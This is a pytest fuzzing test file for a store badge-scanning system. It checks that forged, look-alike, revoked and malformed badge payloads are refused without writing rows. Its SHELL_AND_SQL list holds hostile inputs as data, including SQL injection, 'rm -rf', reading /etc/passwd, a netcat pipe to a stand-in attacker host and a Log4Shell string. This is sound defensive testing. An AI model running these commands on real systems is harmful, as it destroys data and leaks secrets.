"""Case 7: hostile badge payloads from hypothesis and a fuzzer. None is accepted, none writes a
row, none raises, and each is refused for the reason a visitor should read."""

from __future__ import annotations

import random
import uuid

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from storeshift.services import badges, roster, visits
from storeshift.storage import open_storage

from .support import cli, row_counts

pytestmark = pytest.mark.reliability

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
LOOK_ALIKES = {
    "A": "АΑＡ", "B": "ВΒＢ", "C": "СＣ", "E": "ЕΕＥ", "H": "НΗ", "I": "ІΙıＩ", "K": "КΚKＫ", "M": "МΜ",
    "N": "Ν", "O": "ОΟ", "P": "РΡ", "S": "ЅſＳ", "T": "ТΤ", "X": "ХΧ", "Y": "ΥＹ", "Z": "Ζ",
    "1": "１l", "2": "２", "3": "３З", "4": "４", "5": "５", "6": "６", "7": "７", "-": "‐‑‒–—−－﹣",
}
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00a0", "\u202e", "\u2028"]
SHELL_AND_SQL = [
    "' OR '1'='1", "'; DROP TABLE visits; --", "SS1-AAAA-'; DELETE FROM people;--", "\" OR 1=1 --",
    "$(rm -rf ~)", "`reboot`", "; cat /etc/passwd", "| nc attacker 4444", "&& shutdown -h now",
    "../../../../etc/passwd", "%s%s%s%n", "{{7*7}}", "${jndi:ldap://x/a}", "<script>alert(1)</script>",
    "SS1-' UNION SELECT secret FROM organisation --", "--help", "-rf /", "--db=/etc/passwd",
]


class World:
    """One store with every kind of badge a payload can claim to be."""

    def __init__(self, path):
        self.storage = open_storage(path)
        s = self.storage
        self.key = badges.org_key(s)
        active = roster.add_person(s, name="Active Person")
        self.old_payload = badges.payload_for(s, active["id"])
        badges.issue(s, active["id"])  # serial 2: the serial-1 card is "replaced"
        self.valid = badges.payload_for(s, active["id"])
        revoked = roster.add_person(s, name="Revoked Badge")
        self.revoked = badges.payload_for(s, revoked["id"])
        badges.revoke(s, revoked["id"])
        inactive = roster.add_person(s, name="Gone Inactive")
        self.inactive = badges.payload_for(s, inactive["id"])
        roster.set_active(s, inactive["id"], False)
        self.future = badges.make_payload(self.key, active["id"], 3)
        self.unknown = badges.make_payload(self.key, str(uuid.uuid4()), 1)
        other = open_storage(None)
        self.other_org = badges.make_payload(badges.org_key(other), str(uuid.uuid4()), 1)
        other.close()
        # Someone who knows the key id but not the secret.
        self.wrong_key = badges.make_payload({"key_id": self.key["key_id"], "secret": "11" * 32}, active["id"], 2)
        self.before = row_counts(s)
        self.changes = s.conn.total_changes
        self.tried = 0

    def expect(self, text) -> str:
        """The reason a refused payload must give, from what the visitor's card says."""
        if isinstance(text, bytes):
            return "not_ours"
        normal = badges.normalise(text)
        match = badges.PAYLOAD_RE.match(normal)
        if not match:
            return "not_ours"
        if match.group(1) != self.key["key_id"]:
            return "other_org"
        return "damaged"

    def refuse(self, payload, reason: str | None = None) -> None:
        """Scan payload; it must be refused for `reason` (default: what expect() says)."""
        if reason is None:
            reason = self.expect(payload)
        result = visits.scan(self.storage, payload)
        self.tried += 1
        assert result.kind == visits.REFUSED, f"accepted: {payload!r}"
        assert result.reason == reason, f"{payload!r}: refused as {result.reason}, expected {reason}"
        assert result.message == badges.REASONS[reason]
        assert result.visit is None

    def nothing_written(self) -> None:
        assert self.storage.conn.total_changes == self.changes
        assert row_counts(self.storage) == self.before


@pytest.fixture
def world(tmp_path):
    w = World(tmp_path / "fuzz.db")
    yield w
    w.storage.close()


def altered(rng: random.Random, valid: str) -> str:
    chars = list(valid)
    for _ in range(rng.randint(1, 3)):
        i = rng.randrange(len(chars))
        op = rng.random()
        if op < 0.6:
            chars[i] = rng.choice(ALPHABET + "0189-abcxyz _=+/")
        elif op < 0.8:
            del chars[i]
        else:
            chars.insert(i, rng.choice(ALPHABET + "-"))
        if not chars:
            break
    return "".join(chars)


def look_alike(rng: random.Random, valid: str) -> str:
    spots = [i for i, ch in enumerate(valid) if ch in LOOK_ALIKES]
    chars = list(valid)
    for i in rng.sample(spots, rng.randint(1, 3)):
        chars[i] = rng.choice(LOOK_ALIKES[chars[i]])
    if rng.random() < 0.3:
        at = rng.randrange(1, len(chars))
        chars.insert(at, rng.choice(INVISIBLE))
    return "".join(chars)


def fuzzed(rng: random.Random, w: World):
    """(payload, reason or None to derive it) in every hostile family, round-robin."""
    valid = w.valid
    families = [
        lambda: (altered(rng, valid), None),
        lambda: (valid[:rng.randrange(len(valid))], "not_ours"),
        lambda: (valid[:rng.randrange(4, len(valid))] + valid[rng.randrange(len(valid)):], None),
        lambda: (w.wrong_key, "damaged"),
        lambda: (w.other_org, "other_org"),
        lambda: (w.revoked, "revoked"),
        lambda: (w.future, "revoked"),
        lambda: (w.old_payload, "replaced"),
        lambda: (w.inactive, "inactive"),
        lambda: (w.unknown, "unknown_person"),
        lambda: ("".join(chr(rng.randrange(32, 0x2FFF)) for _ in range(10_240)), "not_ours"),
        lambda: (valid + "".join(rng.choice(ALPHABET) for _ in range(10_240)), "not_ours"),
        lambda: (bytes(rng.randrange(256) for _ in range(rng.randint(1, 200))), "not_ours"),
        lambda: ((valid.encode() + bytes([rng.randrange(0x80, 0x100)])).decode("utf-8", "surrogateescape"),
                 "not_ours"),
        lambda: (valid.encode("utf-16"), "not_ours"),
        lambda: (rng.choice(SHELL_AND_SQL), "not_ours"),
        lambda: (valid[:rng.randrange(len(valid))] + rng.choice(SHELL_AND_SQL), "not_ours"),
        # Control characters are scanner framing and are stripped: spliced into a forged payload
        # they must not change its verdict.
        lambda: (_splice_controls(rng, altered(rng, valid)), None),
        lambda: (look_alike(rng, valid), "not_ours"),
        lambda: (valid.replace("-", rng.choice(["", " ", "_", "--"]), 1), "not_ours"),
    ]
    while True:
        for family in families:
            payload, reason = family()
            if not isinstance(payload, bytes) and badges.normalise(payload) == valid:
                continue  # an "alteration" that changed nothing a scanner would send
            yield payload, reason


def _splice_controls(rng: random.Random, text: str) -> str:
    chars = list(text)
    for _ in range(rng.randint(1, 4)):
        chars.insert(rng.randrange(len(chars) + 1), chr(rng.choice([0, 2, 3, 7, 8, 9, 10, 13, 27, 127, 0x85, 0x9b])))
    return "".join(chars)


def test_fuzzed_payloads_are_all_refused_for_the_right_reason(world, counts):
    rng = random.Random(7)
    source = fuzzed(rng, world)
    for _ in range(counts.payloads // 2):
        payload, reason = next(source)
        world.refuse(payload, reason)
    world.nothing_written()
    assert world.tried == counts.payloads // 2
    # The genuine badge still works afterwards: the refusals did not break anything.
    assert visits.scan(world.storage, world.valid).kind == visits.CHECKED_IN
    print(f"\nfuzzer: {world.tried} payloads refused, 0 accepted, 0 rows written")


def test_hypothesis_payloads_are_all_refused_for_the_right_reason(world, counts):
    per_strategy = counts.payloads // 2 // 4

    def run(strategy):
        @settings(max_examples=per_strategy, deadline=None, database=None, derandomize=True,
                  suppress_health_check=list(HealthCheck))
        @given(strategy)
        def inner(payload):
            world.refuse(payload)
        inner()

    run(st.text(max_size=200))
    run(st.binary(max_size=200))
    # Well-formed payloads: right shape, random key id, person, serial and tag.
    run(st.from_regex(badges.PAYLOAD_RE, fullmatch=True))
    # Our key id with everything else random: a forgery attempt by someone who read one card.
    key_id = world.key["key_id"]
    run(st.builds(lambda person, serial, tag: f"SS1-{key_id}-{person}-{serial}-{tag}",
                  st.text(ALPHABET, min_size=26, max_size=26), st.integers(1, 999_999),
                  st.text(ALPHABET, min_size=16, max_size=16)))
    world.nothing_written()
    assert world.tried >= per_strategy * 3  # hypothesis may stop early only when a space is exhausted
    print(f"\nhypothesis: {world.tried} payloads refused, 0 accepted, 0 rows written")


def test_payloads_through_storeshift_scan(world, counts, tmp_path):
    db = str(world.storage.path)
    rng = random.Random(11)
    source = fuzzed(rng, world)
    cases = [(w, r) for w, r in [(world.revoked, "revoked"), (world.other_org, "other_org"),
                                 (look_alike(rng, world.valid), "not_ours"), ("-rf /", "not_ours")]]
    while len(cases) < counts.cli_payloads + 4:
        payload, reason = next(source)
        if isinstance(payload, bytes) or "\x00" in payload or len(payload) > 2000:
            continue  # an argument cannot hold NUL, and a shell line is not 10 KB long
        cases.append((payload, reason or world.expect(payload)))
    world.storage.close()
    raw = ("SS1-".encode() + b"\xff\xfe" + world.valid[6:].encode(), "not_ours")  # not UTF-8 at all
    for payload, reason in cases + [raw]:
        argument = payload if isinstance(payload, bytes) else payload.encode("utf-8", "surrogateescape")
        done = cli(b"scan", b"--db", db.encode(), b"--", argument)
        err = done.stderr.decode("utf-8", "replace")
        assert done.returncode == 1, (payload, err)
        assert err == f"storeshift: {badges.REASONS[reason]}\n", (payload, err)
        assert done.stdout == b""
    storage = open_storage(db)
    try:
        assert row_counts(storage) == world.before
    finally:
        storage.close()
    print(f"\nstoreshift scan: {len(cases) + 1} hostile payloads refused with exit 1 and one line")
